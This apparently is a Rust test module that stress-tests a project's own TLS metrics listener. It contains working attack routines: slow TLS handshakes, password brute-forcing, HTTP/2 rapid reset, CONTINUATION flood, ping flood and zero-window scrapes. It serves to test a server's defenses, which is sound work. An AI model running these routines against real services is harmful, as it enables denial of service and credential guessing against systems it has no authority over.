//! The attacks on a listener with a web configuration: TLS handshakes, certificates, passwords and HTTP/2.

use std::{io, sync::Arc, time::Duration};

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt, ReadHalf, WriteHalf, split},
    net::TcpStream,
    time::sleep,
};
use tokio_rustls::{client::TlsStream, rustls::ClientConfig};

use super::{
    access::{Access, Credentials, authorization, handshake, valid_authorization},
    attack::{Attack, Target, boxed},
};

/// Time between two bytes of a client that sends slowly.
const STEP: Duration = Duration::from_millis(200);

/// The beginning of a TLS handshake: a record of 512 bytes with a `ClientHello`.
const CLIENT_HELLO: [u8; 11] = [0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3];

/// The first bytes of a connection with HTTP/2.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// The types of HTTP/2 frames (RFC 9113, section 6).
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

/// The flags of a `HEADERS` frame.
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// The error code `CANCEL`.
const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// The setting `SETTINGS_INITIAL_WINDOW_SIZE` with the value 0.
const NO_WINDOW: [u8; 6] = [0, 4, 0, 0, 0, 0];

/// All attacks that need a web configuration.
pub fn attacks() -> Vec<Attack> {
    let attack = |name, clients, pause, client| Attack {
        name,
        clients,
        pause: Duration::from_millis(pause),
        client,
    };
    vec![
        attack("slow TLS handshakes", 520, 10, |target| {
            boxed(shake_hands_slowly(target))
        }),
        attack("wrong client certificates", 8, 10, |target| {
            boxed(present_wrong_certificate(target))
        }),
        attack("wrong passwords", 20, 10, |target| {
            boxed(guess_passwords(target))
        }),
        attack("HTTP/2 rapid reset", 20, 10, |target| {
            boxed(reset_rapidly(target))
        }),
        attack("HTTP/2 continuation flood", 20, 10, |target| {
            boxed(continue_headers(target))
        }),
        attack("HTTP/2 pings without reading", 20, 10, |target| {
            boxed(ping_without_reading(target))
        }),
        attack("HTTP/2 scrapes without a window", 45, 10, |target| {
            boxed(scrape_without_window(target))
        }),
    ]
}

fn credentials(target: &Target) -> &Credentials {
    match target.access() {
        Access::Plain => unreachable!("these attacks run with a web configuration"),
        Access::Encrypted(credentials) => credentials,
    }
}

async fn encrypt(target: &Target, config: &Arc<ClientConfig>) -> io::Result<TlsStream<TcpStream>> {
    handshake(target.connect().await?, config).await
}

/// Sends one byte of a TLS handshake at a time.
async fn shake_hands_slowly(target: Arc<Target>) -> io::Result<()> {
    let mut stream = target.connect().await?;
    for byte in CLIENT_HELLO.iter().chain(&[0; 505]) {
        stream.write_all(&[*byte]).await?;
        sleep(STEP).await;
    }
    Ok(())
}

/// Presents a certificate of an unknown authority. In TLS 1.3, the refusal arrives after the client's handshake.
async fn present_wrong_certificate(target: Arc<Target>) -> io::Result<()> {
    let mut stream = encrypt(&target, &credentials(&target).stranger).await?;
    stream.read(&mut [0; 1]).await.map(drop)
}

/// Tries a different password with each request. So the server cannot use the result of an earlier check.
async fn guess_passwords(target: Arc<Target>) -> io::Result<()> {
    let mut stream = encrypt(&target, &credentials(&target).anonymous).await?;
    loop {
        let authorization = authorization(&fastrand::u64(..).to_string());
        let request = format!(
            "GET /metrics HTTP/1.1\r\nHost: localhost\r\nAuthorization: {authorization}\r\n\r\n"
        );
        stream.write_all(request.as_bytes()).await?;
        stream.flush().await?;
        if stream.read(&mut [0; 4096]).await? == 0 {
            return Ok(());
        }
    }
}

/// Opens and cancels HTTP/2 streams without a pause.
async fn reset_rapidly(target: Arc<Target>) -> io::Result<()> {
    let (reader, mut writer) = http2(&target, &[]).await?;
    let block = request_block("/metrics", None);
    let writing = async {
        for stream in (1..0x7fff_ffff).step_by(2) {
            let mut frames = frame(HEADERS, END_STREAM | END_HEADERS, stream, &block);
            frames.extend(frame(RST_STREAM, 0, stream, &CANCEL));
            writer.write_all(&frames).await?;
            writer.flush().await?;
        }
        Ok(())
    };
    until_end(reader, writing).await
}

/// Sends headers without an end.
async fn continue_headers(target: Arc<Target>) -> io::Result<()> {
    let (reader, mut writer) = http2(&target, &[]).await?;
    // A literal header `x: y` that is not added to the table.
    let headers = b"\0\x01x\x01y".repeat(3000);
    let writing = async {
        let first = frame(HEADERS, END_STREAM, 1, &request_block("/metrics", None));
        writer.write_all(&first).await?;
        loop {
            writer
                .write_all(&frame(CONTINUATION, 0, 1, &headers))
                .await?;
            writer.flush().await?;
        }
    };
    until_end(reader, writing).await
}

/// Sends pings without a pause, and reads no response. The server must not store all responses.
async fn ping_without_reading(target: Arc<Target>) -> io::Result<()> {
    let (_reader, mut writer) = http2(&target, &[]).await?;
    let pings = frame(PING, 0, 0, &[0; 8]).repeat(100);
    loop {
        writer.write_all(&pings).await?;
        writer.flush().await?;
    }
}

/// Requests a hundred scrapes with a valid password, but allows no byte of a response.
async fn scrape_without_window(target: Arc<Target>) -> io::Result<()> {
    let (reader, mut writer) = http2(&target, &NO_WINDOW).await?;
    let block = request_block("/metrics", Some(&valid_authorization()));
    let writing = async {
        for stream in (1..200).step_by(2) {
            let frame = frame(HEADERS, END_STREAM | END_HEADERS, stream, &block);
            writer.write_all(&frame).await?;
        }
        writer.flush().await?;
        std::future::pending().await
    };
    until_end(reader, writing).await
}

type Reader = ReadHalf<TlsStream<TcpStream>>;
type Writer = WriteHalf<TlsStream<TcpStream>>;

/// Opens a connection with HTTP/2 and these settings.
async fn http2(target: &Target, settings: &[u8]) -> io::Result<(Reader, Writer)> {
    let stream = encrypt(target, &credentials(target).http2).await?;
    let protocol = stream.get_ref().1.alpn_protocol();
    assert_eq!(protocol, Some(&b"h2"[..]), "the server speaks HTTP/2");
    let (reader, mut writer) = split(stream);
    writer.write_all(PREFACE).await?;
    writer.write_all(&frame(SETTINGS, 0, 0, settings)).await?;
    Ok((reader, writer))
}

/// Reads and drops everything until the connection ends, while `writing` goes on.
async fn until_end(
    mut reader: Reader,
    writing: impl Future<Output = io::Result<()>>,
) -> io::Result<()> {
    let reading = async {
        let mut buffer = [0; 4096];
        while reader.read(&mut buffer).await? > 0 {}
        Ok(())
    };
    tokio::select! {
        ended = reading => ended,
        written = writing => written,
    }
}

/// An HTTP/2 frame.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a frame is short");
    let mut bytes = length.to_be_bytes()[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// The header block of a `GET` request, in HPACK without compression of texts. The numbers are indices of the static
/// table (RFC 7541, appendix A).
fn request_block(path: &str, authorization: Option<&str>) -> Vec<u8> {
    let mut block = vec![0x82, 0x87];
    let mut text = |name: &[u8], value: &str| {
        block.extend(name);
        block.push(u8::try_from(value.len()).expect("a short text"));
        block.extend(value.as_bytes());
    };
    text(&[4], path);
    text(&[1], "localhost");
    if let Some(authorization) = authorization {
        text(&[0x0f, 8], authorization);
    }
    block
}
